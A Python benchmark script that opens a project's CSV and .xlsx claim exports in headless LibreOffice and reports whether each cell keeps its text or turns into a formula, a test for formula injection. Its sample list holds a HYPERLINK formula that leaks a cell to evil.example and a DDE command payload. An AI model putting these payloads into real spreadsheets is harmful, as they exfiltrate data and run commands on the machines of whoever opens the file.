"""How a spreadsheet reads the exports: the CSV tables (as `write_csv` writes them, with their
byte order mark) and the .xlsx workbook, opened by LibreOffice Calc headless as a double click
would (its default CSV import), saved again as .xlsx and read back cell by cell with openpyxl.
We have no Excel: LibreOffice is the nearest measure. Prints, for each tricky claim, what the
spreadsheet holds in its cell and whether that is the claim's text; never fails.

    apt-get install -y --no-install-recommends libreoffice-calc-nogui
    python bench/spreadsheets.py
"""

import io
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path[:0] = [str(ROOT)]

# LibreOffice's CSV filter: comma, double quotes, UTF-8 (76), from line 1: what a user picks in
# its import dialog.
UTF8 = "CSV:44,34,76,1"
TEXTS = [
    "Protesters in São Paulo and Erdoğan’s aides said “enough”.",
    'He said "we will return," and left.',
    "A first line\nand a second, in one claim.",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the source")',
    "+cmd|' /C calc'!A0",
    "-2 degrees overnight, officials said.",
    "-5",
    "@SUM(1+1)",
    "=1+1",
    "2016-09-20",
    "00123",
    "1/2",
    "3,000",
    "1e5",
    "'quoted' from the start",
]


def main():
    soffice = shutil.which("soffice")
    if not soffice:
        sys.exit("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
    import django

    work = Path(tempfile.mkdtemp(prefix="parallax-sheets-"))
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "config.settings")
    os.environ["DATABASE_URL"] = f"sqlite:///{work / 'unused.sqlite3'}"  # no query is made
    django.setup()
    from claims.exchange import export, sheet

    rows = [
        {"id": i, "article_id": 1, "position": i, "start": 0, "end": len(t), "text": t}
        for i, t in enumerate(TEXTS, 1)
    ]
    joined = [{"claim_id": r["id"], "text": r["text"]} for r in rows]
    files = {}
    for name, table in (("claims", rows), ("claims_joined", joined)):
        out = io.StringIO()
        export.write_csv(out, name, table)
        files[f"{name}.csv"] = out.getvalue().encode("utf-8")
    files["story.xlsx"] = sheet.workbook({"claims": rows}, {})
    version = subprocess.run([soffice, "--version"], capture_output=True, text=True).stdout
    print(f"LibreOffice: {version.strip()}")
    runs = [(name, content, None) for name, content in files.items()]
    runs += [(name, files[name], UTF8) for name in files if name.endswith(".csv")]
    for name, content, infilter in runs:
        read = reopened(soffice, work, name, content, infilter)
        column = [value for value, _ in read[0]].index("text")
        how = "as a double click would" if infilter is None else "asked for UTF-8"
        print(f"\n{name}, opened by LibreOffice ({how}) and saved as .xlsx:")
        right = 0
        for text, cells in zip(TEXTS, read[1:], strict=True):
            value, kind = cells[column]
            ok = value == text and kind == "s"
            right += ok
            print(f"  {'ok ' if ok else 'BAD'} {text!r:<72} -> {kind} {value!r}")
        formulas = sum(kind == "f" for row in read for _, kind in row)
        print(
            f"  {right} of {len(TEXTS)} cells hold the claim's text, as text; formulas: {formulas}"
        )
    shutil.rmtree(work, ignore_errors=True)


def reopened(
    soffice: str, work: Path, name: str, content: bytes, infilter: str | None
) -> list[list[tuple]]:
    """The first sheet's cells (value, openpyxl data type) after LibreOffice opened the file
    and saved it as .xlsx."""
    from openpyxl import load_workbook

    source = work / "in" / name
    source.parent.mkdir(exist_ok=True)
    source.write_bytes(content)
    out = work / "out" / f"{Path(name).stem}-{infilter is not None}"
    profile = f"-env:UserInstallation=file://{work / 'profile'}"
    options = [f"--infilter={infilter}"] if infilter else []
    subprocess.run(
        [soffice, profile, "--headless", *options, "--convert-to", "xlsx", "--outdir", str(out)]
        + [str(source)],
        check=True,
        capture_output=True,
    )
    sheet = load_workbook(out / (Path(name).stem + ".xlsx")).worksheets[0]
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]


if __name__ == "__main__":
    main()
